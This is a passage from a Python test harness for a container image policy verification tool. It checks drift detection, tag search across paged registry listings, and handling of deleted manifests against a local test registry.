                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=regtest.gate_env())
    out = r.stdout.decode()
    check(r.returncode == 0 and s.app_digest in out and new_digest in out, "gate history:\n" + out)
    # Tampered twin: a fresh cache has no history, so the finding names nothing.
    rc, rep, _ = verify([t, "--cache", cache + "-fresh"], s.host, want=1, cache=True)
    d = [f for f in rep["findings"] if f["rule"] == "layers.drift"][0]["details"]
    check("policy_digest" not in d, "no history, no remedy: %s" % d)
    # --search-tags: the old image is also v1-old; a fresh cache finds it there.
    old = push(s.p, "simpleapp", "v1-old", s.app_layers)
    check(old == s.app_digest, "v1-old is the old image")
    rc, rep, _ = verify([t, "--cache", cache + "-tags", "--search-tags"], s.host, want=1, cache=True)
    f = [f for f in rep["findings"] if f["rule"] == "layers.drift"][0]
    check(f["details"].get("tag") == "v1-old" and f["details"].get("policy_digest") == s.app_digest and
          f["details"].get("still_served") is True and "seen_at" not in f["details"] and
          "'v1-old'" in f["message"], "--search-tags names v1-old: %s %s" % (f["message"], f["details"]))
    # Through a proxy that pages tags/list two tags at a time with Link
    # headers, as large registries do: v1-old is on the third page.
    for i in range(3):
        push(s.p, "simpleapp", "a%d" % i, s.base)
    proxy = regtest.Proxy(s.reg.port, hook=paged_tags(s.reg.port))
    via = "127.0.0.1:%d" % proxy.port
    # Two groups drifted the same way: the tags are searched once.
    vpol = confcom.policy([s.app_container("web", image=via + "/simpleapp:v1")])
    t2 = write_template("t/story-proxy.json", [(g, vpol, [("web", via + "/simpleapp:v1", [], None)])
                                               for g in ("demo", "demo2")])
    rc, rep, _ = verify([t2, "--cache", cache + "-pages", "--search-tags"], via, want=1, cache=True)
    fs = [f for f in rep["findings"] if f["rule"] == "layers.drift"]
    check(len(fs) == 2 and all(f["details"].get("tag") == "v1-old" for f in fs) and
          proxy.count(lambda r: "/tags/list" in r[1] and "last=" in r[1]) >= 2,
          "tags/list pages followed: %s %s" % ([f["details"] for f in fs], proxy.requests))
    check(proxy.count(lambda r: r[1].endswith("/tags/list?n=32")) == 1,
          "one tag search for two findings: %s" % proxy.requests)
    # The old manifest deleted from the registry: the history still names
    # it, and the finding says it is no longer served.
    s.p._req("DELETE", "/v2/simpleapp/manifests/%s" % s.app_digest, want=(202,))
    rc, rep, _ = verify([t, "--cache", cache], s.host, want=1, cache=True)
    f = [f for f in rep["findings"] if f["rule"] == "layers.drift"][0]
    check(f["details"].get("policy_digest") == s.app_digest and f["details"].get("still_served") is False and
          "404" in f["details"].get("served_error", "") and "no longer served" in f["message"],
          "a deleted digest is not served: %s %s" % (f["message"], f["details"]))


SCENARIOS = {
    "pass": s_pass, "drift": s_drift, "command": s_command, "env": s_env, "order": s_order,
    "coverage": s_coverage, "candidates": s_candidates, "unreachable": s_unreachable,
    "samples": s_samples, "directory": s_directory, "reports": s_reports, "review": s_review,
    "shards": s_shards, "history": s_history, "locations": s_locations,
}


def run(name, fn, keep=False):
    """Runs fn in a fresh regtest.TMP, stops what it started and removes
    the directory (unless keep), passing or not.  Returns the exit status."""
    regtest.TMP = tempfile.mkdtemp(prefix="gate-verify-")
    try:
        fn()
        print("%s: passed" % name)
        return 0
    except regtest.Failed as e:
        print("FAIL: %s" % e, file=sys.stderr)
        return 1
    finally:
        for stop in reversed(regtest.CLEANUP):
            try:
                stop()
            except Exception as e:
                print("cleanup: %s" % e, file=sys.stderr)
        if keep:
            print("kept %s" % regtest.TMP, file=sys.stderr)
        else:
            shutil.rmtree(regtest.TMP, ignore_errors=True)


def main():
    global FIXTURES, SCHEMA
    ap = argparse.ArgumentParser()
    ap.add_argument("scenario", choices=sorted(SCENARIOS))
    ap.add_argument("--gate", required=True)
    ap.add_argument("--vectors", required=True)
    ap.add_argument("--fixtures", required=True)
    ap.add_argument("--schema", required=True)
    a = ap.parse_args()
    regtest.GATE, regtest.VECTORS = os.path.abspath(a.gate), os.path.abspath(a.vectors)
    FIXTURES, SCHEMA = os.path.abspath(a.fixtures), os.path.abspath(a.schema)
    return run("verify." + a.scenario, SCENARIOS[a.scenario])


if __name__ == "__main__":
    sys.exit(main())
